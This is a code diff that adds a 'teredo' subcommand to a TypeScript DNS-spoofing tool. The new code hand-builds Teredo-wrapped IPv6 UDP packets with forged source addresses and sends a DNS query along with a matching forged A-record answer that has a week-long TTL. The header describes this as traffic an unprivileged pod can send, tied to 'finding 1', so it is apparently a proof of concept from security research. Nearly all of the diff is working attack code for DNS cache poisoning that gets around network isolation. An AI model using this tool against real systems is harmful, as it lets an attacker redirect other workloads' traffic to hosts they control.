@@ -8,6 +8,9 @@
 //                           unsolicited-, silent-) — forged answers from a trusted address
 //   query SERVER SPORT ID NAME   sends one A query from SPORT and exits
 //   respond SRC_PORT DST DST_PORT ID NAME IP   sends one unsolicited A answer and exits
+//   teredo SERVER V6POD V6RESOLVER NAME IP   sends, from UDP port 3544 to SERVER:53, a Teredo-wrapped
+//                           IPv6 query V6POD → V6RESOLVER for NAME and the matching forged answer
+//                           (NAME A IP) — what a pod without capabilities can send (finding 1)
 //   fetch URL               prints the body of an HTTP GET
 import { createSocket } from "node:dgram";
 import * as grpc from "@grpc/grpc-js";
@@ -20,6 +23,21 @@ const [cmd, ...args] = process.argv.slice(2);
 
 function send(sock: ReturnType<typeof createSocket>, msg: Uint8Array, port: number, host: string): Promise<void> {
   return new Promise((resolve, reject) => sock.send(msg, port, host, (err) => (err ? reject(err) : resolve())));
+}
+
+function v6(text: string): number[] {
+  const [head, tail] = text.includes("::") ? text.split("::") : [text, ""];
+  const h = head ? head.split(":") : [];
+  const t = tail ? tail.split(":") : [];
+  return [...h, ...new Array<string>(8 - h.length - t.length).fill("0"), ...t].flatMap((g) => [parseInt(g, 16) >> 8, parseInt(g, 16) & 0xff]);
+}
+
+/** A Teredo datagram body (RFC 4380: origin indication, then IPv6) carrying one IPv6 UDP packet. */
+function teredo(src: string, sport: number, dst: string, dport: number, payload: Uint8Array): Uint8Array {
+  const udpLen = 8 + payload.length;
+  const udp = [sport >> 8, sport & 0xff, dport >> 8, dport & 0xff, udpLen >> 8, udpLen & 0xff, 0, 0, ...payload];
+  const ip6 = [0x60, 0, 0, 0, udpLen >> 8, udpLen & 0xff, 17, 64, ...v6(src), ...v6(dst)];
+  return Uint8Array.from([0, 0, 0x9c, 0x40, 1, 2, 3, 4, ...ip6, ...udp]);
 }
 
 async function main(): Promise<void> {
@@ -88,6 +106,17 @@ async function main(): Promise<void> {
       const sock = createSocket("udp4");
       await new Promise<void>((r) => sock.bind(Number(sport), () => r()));
       await send(sock, dnsMessage({ id: Number(id), response: true, questions: [{ name: name!, type: T.A }], answers: [{ name: name!, type: T.A, data: ip! }] }), Number(dport), dst!);
+      sock.close();
+      return;
+    }
+    case "teredo": {
+      const [server, pod, resolver, name, ip] = args;
+      const sock = createSocket("udp4");
+      await new Promise<void>((r) => sock.bind(3544, () => r()));
+      const query = dnsMessage({ id: 4242, questions: [{ name: name!, type: T.A }] });
+      const answer = dnsMessage({ id: 4242, response: true, questions: [{ name: name!, type: T.A }], answers: [{ name: name!, type: T.A, ttl: 604800, data: ip! }] });
+      await send(sock, teredo(pod!, 40000, resolver!, 53, query), 53, server!);
+      await send(sock, teredo(resolver!, 53, pod!, 40000, answer), 53, server!);
       sock.close();
       return;
     }
